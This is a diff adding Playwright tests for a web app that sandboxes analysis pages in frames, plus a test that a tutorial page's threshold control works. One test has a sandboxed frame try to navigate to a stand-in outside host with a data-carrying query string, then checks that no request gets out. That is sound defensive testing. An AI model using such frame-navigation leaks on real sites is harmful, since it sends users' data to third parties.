@@ -15,6 +15,7 @@ from playwright.sync_api import Browser, FrameLocator, Page, expect
 from support.browsing import Person, person
 from support.paged import Paged, paged
 from support.populated import Populated
+from support.sites import until
 
 FOLDER = "pages"
 
@@ -142,6 +143,36 @@ def test_a_hostile_page_reaches_nothing(ada: Person, place: Paged, where: str) -
     else:
         expect(faults).to_contain_text("The page set a parameter, but the job has run already.")
     ada.shot(FOLDER, f"hostile-{where}")
+
+
+def test_a_page_can_not_lead_its_frame_elsewhere_to_tell_what_it_saw(ada: Person, place: Paged) -> None:
+    page = ada.page
+    ada.open(f"/jobs/{place.jobs['hostile']}/explore")
+    expect(frame_of(page).locator("#tried")).to_contain_text("all: tried")
+    sent: list[str] = []
+    page.on("request", lambda request: sent.append(request.url))
+    inside = page.frames[-1]
+    inside.evaluate("setTimeout(() => { location.href = 'https://example.org/?told=RAT+ONE' })")
+    until(lambda: any("example.org" in fault for fault in _heard(page, ada)))
+    assert [one for one in sent if "example.org" in one] == []
+
+
+def _heard(page: Page, somebody: Person) -> list[str]:
+    page.evaluate("0")  # so that what the browser says meanwhile is heard
+    return somebody.faults
+
+
+def test_the_page_that_the_tutorial_shows_does_what_it_says(ada: Person, place: Paged) -> None:
+    page = ada.page
+    ada.open(f"/analyses/documented/new?data={place.items['mouse.txt']}")
+    page.get_by_role("button", name="Set up").click()
+    frame = frame_of(page)
+    expect(frame.locator("#share")).to_have_text("2 of 3 are above 0.5")
+    frame.get_by_label("Threshold").press("ArrowRight")
+    expect(page.locator("[name='p.threshold']")).to_have_value("0.51")
+    page.locator("[name='p.threshold']").fill("0.75")
+    expect(frame.locator("#share")).to_have_text("1 of 3 are above 0.75")
+    assert ada.faults == []
 
 
 def test_a_page_opened_by_its_address_has_no_origin_either(ada: Person, place: Paged) -> None:
